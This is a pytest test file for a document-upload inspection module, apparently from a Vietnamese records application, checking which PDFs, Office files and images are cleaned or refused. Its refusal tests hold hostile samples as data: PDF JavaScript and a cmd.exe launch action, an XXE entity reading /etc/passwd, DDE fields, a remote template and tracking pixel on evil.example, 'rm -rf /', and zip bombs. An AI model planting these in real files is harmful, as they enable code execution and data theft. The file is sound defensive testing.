import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from chungtay.documents import inspection, office_check, pdf_check, printing, word
from chungtay.law.refusals import Refused
from tests.documents.sample_papers import DAY, batch, decision

TYPES = "[Content_Types].xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_file() -> bytes:
    return word.docx(word.TEMPLATES / "decision.docx", decision().to_dict())


def packed(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet_parts(**more: bytes) -> dict[str, bytes]:
    types = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{SHEET}"/></Types>'
    return {TYPES: types.encode(), "xl/workbook.xml": b"<workbook/>", **more}


def with_part(name: str, content: bytes) -> bytes:
    return packed({**sheet_parts(), name: content})


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
    return f'<Relationships xmlns="{RELS}">{one}</Relationships>'.encode()


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="x"><w:p>{runs}</w:p></w:document>'.encode()


def picture(form: str, size: tuple[int, int] = (40, 30), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, form, **how)
    return out.getvalue()


def pdf_file(body: bytes = b"", tail: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog " + body + b">>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n" + tail


def stream(dictionary: bytes, content: bytes) -> bytes:
    packed_content = zlib.compress(content)
    return pdf_file(
        b">>\nendobj\n2 0 obj\n<</Filter/FlateDecode "
        + dictionary
        + b">>\nstream\n"
        + packed_content
        + b"\nendstream\nendobj\n3 0 obj\n<<"
    )


def refusal(content: bytes, name: str = "tệp") -> list[str]:
    with pytest.raises(Refused) as refused:
        inspection.inspect(content, name)
    assert {reason.field for reason in refused.value.reasons} == {"file"}
    return [reason.text for reason in refused.value.reasons]


# What is let through


def test_our_own_papers_pass_unchanged() -> None:
    for paper in (decision(), batch()):
        pdf = printing.print_paper(paper, on=DAY)
        assert inspection.inspect(pdf, "quyết định.PDF") == inspection.Inspected("pdf", "application/pdf", "pdf", pdf)
    content = word_file()
    found = inspection.inspect(content, "quyết định.docx")
    assert (found.kind, found.extension, found.cleaned) == ("word", "docx", content)


def test_a_plain_word_file_and_a_plain_sheet_pass() -> None:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("Báo cáo thành tích")
    document.save(out)
    assert inspection.inspect(out.getvalue(), "a.docx").kind == "word"
    link = relation("hyperlink", "https://example.vn/")
    printer = {"xl/printerSettings/printerSettings1.bin": b"x", "xl/worksheets/_rels/sheet1.xml.rels": link}
    assert inspection.inspect(packed(sheet_parts(**printer)), "bảng.xlsx").extension == "xlsx"


@pytest.mark.parametrize(
    ("form", "extension", "media_type"),
    [("JPEG", "jpg", "image/jpeg"), ("PNG", "png", "image/png"), ("WEBP", "webp", "image/webp")],
)
def test_a_picture_is_drawn_anew_with_the_same_size(form: str, extension: str, media_type: str) -> None:
    found = inspection.inspect(picture(form), "")
    assert (found.kind, found.extension, found.media_type) == ("image", extension, media_type)
    with Image.open(io.BytesIO(found.cleaned)) as image:
        assert (image.format, image.size) == (form, (40, 30))


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_no_metadata_and_no_hidden_tail_survive(form: str) -> None:
    exif = Image.Exif()
    exif[0x010E] = "SECRETPLACE"
    exif.get_ifd(0x8825)[1] = "N"
    extra: dict[str, Any] = {"exif": exif.tobytes()}
    if form == "PNG":
        extra["pnginfo"] = PngInfo()
        extra["pnginfo"].add_text("Comment", "SECRETPLACE")
    original = picture(form, **extra) + b"PK\x03\x04SECRETPLACE<script>"
    assert b"SECRETPLACE" in original
    cleaned = inspection.inspect(original, "").cleaned
    assert b"SECRETPLACE" not in cleaned
    assert b"<script" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert not image.getexif()


def test_a_photograph_taken_sideways_is_turned_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    cleaned = inspection.inspect(picture("JPEG", (40, 30), exif=exif.tobytes()), "a.jpg").cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.size == (30, 40)


def test_a_transparent_picture_stays_transparent_and_a_cmyk_photograph_becomes_rgb() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(out, "PNG")
    with Image.open(io.BytesIO(inspection.inspect(out.getvalue(), "").cleaned)) as image:
        assert image.getpixel((0, 0)) == (0, 0, 0, 0)
    out = io.BytesIO()
    Image.new("CMYK", (8, 8)).save(out, "JPEG")
    with Image.open(io.BytesIO(inspection.inspect(out.getvalue(), "").cleaned)) as image:
        assert image.mode == "RGB"


def test_a_file_on_disk_is_judged_like_bytes(tmp_path: Path) -> None:
    path = tmp_path / "upload"
    path.write_bytes(picture("PNG"))
    assert inspection.inspect(path, "ảnh.png").extension == "png"


# What is refused


def test_ten_megabytes_pass_and_one_byte_more_does_not() -> None:
    filler = inspection.MAX_BYTES - len(pdf_file())
    at_limit = pdf_file(b" " * filler)
    assert len(at_limit) == inspection.MAX_BYTES
    assert inspection.inspect(at_limit, "a.pdf").kind == "pdf"
    assert "vượt mức 10 MB" in refusal(pdf_file(b" " * (filler + 1)))[0]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "rỗng"),
        (b"MZ\x90\x00", "chương trình"),
        (b"\x7fELF\x02", "chương trình"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "lưu lại thành .docx"),
        (b"Rar!\x1a\x07", "tệp nén"),
        (b"7z\xbc\xaf\x27\x1c", "tệp nén"),
        (b"{\\rtf1}", "RTF"),
        (b"GIF89a", "GIF"),
        (b"<html><script>alert(1)</script>", "không phải PDF"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "không phải PDF"),
        (b"\n%PDF-1.7\n%%EOF", "không phải PDF"),
        (b"\x89PNG\r\n\x1a\nrubbish", "hỏng"),
        (b"\xff\xd8\xff\xe0rubbish", "hỏng"),
        (b"PK\x03\x04rubbish", "hỏng"),
    ],
)
def test_what_is_not_an_allowed_file_is_told_what_it_is(content: bytes, said: str) -> None:
    assert said in refusal(content, "báo cáo.pdf")[0]


@pytest.mark.parametrize(("name", "said"), [("ảnh.pdf", ".pdf"), ("báo cáo.exe", ".exe"), ("a.pdf.html", ".html")])
def test_a_name_that_says_another_type_than_the_bytes_is_refused(name: str, said: str) -> None:
    assert said in refusal(picture("PNG"), name)[0]


def test_the_name_shown_is_cut_and_cannot_carry_a_path_or_direction_marks() -> None:
    (text,) = refusal(b"", "..\\..\\etc/" + "x" * 300 + "\u202efdp.exe")
    assert "\u202e" not in text
    assert "etc" not in text
    assert len(text) < 120


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "JavaScript"),
        (b"/OpenAction<</S/J#61va#53cript>>", "JavaScript"),
        (b"/A<</S/Launch/F(cmd.exe)>>", "mở chương trình"),
        (b"/Names<</EmbeddedFiles 2 0 R>>", "nhúng"),
        (b"/Type/EmbeddedFile", "nhúng"),
        (b"/AcroForm<</XFA 3 0 R>>", "XFA"),
        (b"/Subtype/RichMedia", "RichMedia"),
        (b"/S/SubmitForm", "gửi dữ liệu"),
        (b"/Encrypt 5 0 R", "mã hóa"),
    ],
)
def test_a_pdf_with_something_that_runs_or_is_locked_is_refused(body: bytes, said: str) -> None:
    assert any(said in text for text in refusal(pdf_file(body), "a.pdf"))


def test_all_faults_of_a_pdf_are_told_at_once() -> None:
    assert len(refusal(pdf_file(b"/S/JavaScript/S/Launch/Encrypt 1 0 R"), "a.pdf")) == 3


def test_names_inside_a_compressed_object_stream_are_seen_even_under_the_mask_of_a_picture() -> None:
    code = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
    assert "JavaScript" in refusal(stream(b"/Type/ObjStm", code))[0]
    assert "JavaScript" in refusal(stream(b"/Type/Obj#53tm/Subtype/Image", code))[0]
    assert "nén bất thường" in refusal(stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode]", code))[0]


def test_the_same_bytes_as_pixels_harm_nobody() -> None:
    assert inspection.inspect(stream(b"/Subtype/Image", b"/JS /JavaScript"), "a.pdf").kind == "pdf"


@pytest.mark.parametrize("tail", [b"PK\x05\x06" + b"\0" * 18, packed(sheet_parts()), b"<html></html>"])
def test_a_pdf_that_is_also_another_file_is_refused(tail: bytes) -> None:
    assert "loại tệp khác" in refusal(pdf_file(tail=tail), "a.pdf")[0]
    assert "loại tệp khác" in refusal(pdf_file(tail=tail + b"\n%%EOF\n"), "a.pdf")[0]


def test_a_cut_pdf_is_refused() -> None:
    assert "cắt cụt" in refusal(b"%PDF-1.7\n1 0 obj", "a.pdf")[0]


def test_a_pdf_whose_streams_unpack_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_check, "MAX_STREAM", 1000)
    assert inspection.inspect(stream(b"", b"0" * 1000), "a.pdf").kind == "pdf"
    assert "nén bất thường" in refusal(stream(b"", b"0" * 1001))[0]


def png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(30_000, 30_000), (8_000, 5_001), (20_001, 10), (2**31 - 1, 1)])
def test_a_picture_that_would_unpack_too_large_is_refused_before_it_is_unpacked(size: tuple[int, int]) -> None:
    assert "quá lớn" in refusal(png_header(*size))[0]


def test_a_moving_picture_is_refused() -> None:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    assert "ảnh động" in refusal(out.getvalue())[0]


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("word/vbaProject.bin", b"x", "macro"),
        ("xl/macrosheets/sheet1.xml", b"<x/>", "macro"),
        ("word/activeX/activeX1.xml", b"<x/>", "macro"),
        ("other.bin", b"x", "macro"),
        ("word/embeddings/oleObject1", b"x", "nhúng"),
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://evil.example/t.dotm"), "bên ngoài"),
        ("word/_rels/a.rels", relation("image", "http://evil.example/pixel.png"), "bên ngoài"),
        ("word/_rels/b.rels", relation("image", "//evil.example/x", 'TargetMode="Ext&#101;rnal"'), "bên ngoài"),
        ("word/_rels/c.rels", relation("hyperlink", "file://evil.example/share"), "bên ngoài"),
        ("word/_rels/d.rels", relation("frame", "x", "TargetMode='External'").decode().encode("utf-16"), "bên ngoài"),
        ("word/a.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "DTD"),
        ("word/b.xml", "<!DOCTYPE x><x/>".encode("utf-16"), "DTD"),
        ("word/c.xml", b"<x><unclosed></x>", "XML không đọc được"),
        ("word/d.xml", field("DDEAUTO c:\\\\cmd.exe"), "DDE"),
        ("word/e.xml", field(" D", "DE", "AUTO cmd"), "DDE"),
        ("word/f.xml", field("INCLUDEPICTURE http://evil.example/a.png"), "DDE"),
        ("word/g.xml", b'<w:p xmlns:w="x"><w:fldSimple w:instr="DDE cmd"/></w:p>', "DDE"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", "DDE"),
        ("word/h.xml", b'<w:altChunk xmlns:w="x"/>', "nhúng"),
        ("../../evil.xml", b"<x/>", "đường dẫn nguy hiểm"),
        ("/evil.xml", b"<x/>", "đường dẫn nguy hiểm"),
        ("XL/WORKBOOK.XML", b"<x/>", "trùng tên"),
    ],
)
def test_an_office_file_with_something_that_runs_or_calls_out_is_refused(name: str, content: bytes, said: str) -> None:
    assert any(said in text for text in refusal(with_part(name, content), "a.xlsx"))


def test_a_field_that_only_looks_alike_passes() -> None:
    found = inspection.inspect(with_part("word/d.xml", field(" PAGE ", " DDEX ")), "a.xlsx")
    assert found.kind == "sheet"


def test_a_macro_file_that_calls_itself_a_sheet_is_refused() -> None:
    types = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    assert "macro" in refusal(packed({TYPES: types}))[0]


def test_an_archive_that_is_no_office_file_is_refused() -> None:
    assert "không phải tệp Word" in refusal(packed({"a.txt": b"x"}))[0]


def test_a_thousand_parts_pass_and_one_more_does_not() -> None:
    filler = {f"x/{number}.txt": b"" for number in range(998)}
    assert inspection.inspect(packed({**sheet_parts(), **filler}), "a.xlsx").kind == "sheet"
    assert "1001 phần" in refusal(packed({**sheet_parts(), **filler, "x/y.txt": b""}))[0]


def test_a_bomb_is_refused_by_its_ratio() -> None:
    assert "bom nén" in refusal(with_part("xl/big.xml", b"0" * 2_000_000))[0]


def test_a_bomb_is_refused_by_its_whole_size() -> None:
    parts = {f"x/{number}.txt": b"0" * 1_000_000 for number in range(105)}
    assert any("100 MB" in text for text in refusal(packed({**sheet_parts(), **parts})))


def test_a_bomb_that_lies_about_its_size_is_refused() -> None:
    honest = with_part("xl/big.txt", b"0" * 3_000_000)
    lying = honest.replace(struct.pack("<L", 3_000_000), struct.pack("<L", 3_000))
    assert lying != honest
    assert "hỏng" in refusal(lying)[0] or "bom nén" in refusal(lying)[0]


def test_a_locked_archive_is_refused() -> None:
    content = bytearray(packed(sheet_parts(), method=zipfile.ZIP_STORED))
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    assert any("mật khẩu" in text for text in refusal(bytes(content)))


@pytest.mark.parametrize("where", ["before", "after", "comment"])
def test_an_office_file_with_something_tied_to_it_is_refused(where: str) -> None:
    content = packed(sheet_parts())
    if where == "before":
        content = b"PK\x03\x04#!/bin/sh\nrm -rf /\n" + content
    elif where == "after":
        content += b"<html>"
    else:
        content = content[:-2] + struct.pack("<H", 4) + b"%PDF"
    assert any("nội dung lạ" in text or "hỏng" in text for text in refusal(content))


def test_the_child_process_has_its_limits_and_its_death_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    content = packed(sheet_parts())
    assert office_check.check(content) == ("sheet", [])
    monkeypatch.setattr(office_check, "SECONDS", 0.001)
    assert "quá nhiều thời gian" in refusal(content)[0]
    monkeypatch.setattr(office_check, "SECONDS", 10)
    monkeypatch.setattr(sys, "executable", "/bin/false")
    assert "giới hạn an toàn" in refusal(content)[0]


def test_a_sheet_of_many_repeated_rows_is_no_bomb() -> None:
    rows = (
        b"<worksheet>"
        + b"".join(b"<row r='%d'><c><v>1300000</v></c></row>" % number for number in range(60_000))
        + b"</worksheet>"
    )
    assert inspection.inspect(with_part("xl/worksheets/sheet1.xml", rows), "a.xlsx").kind == "sheet"
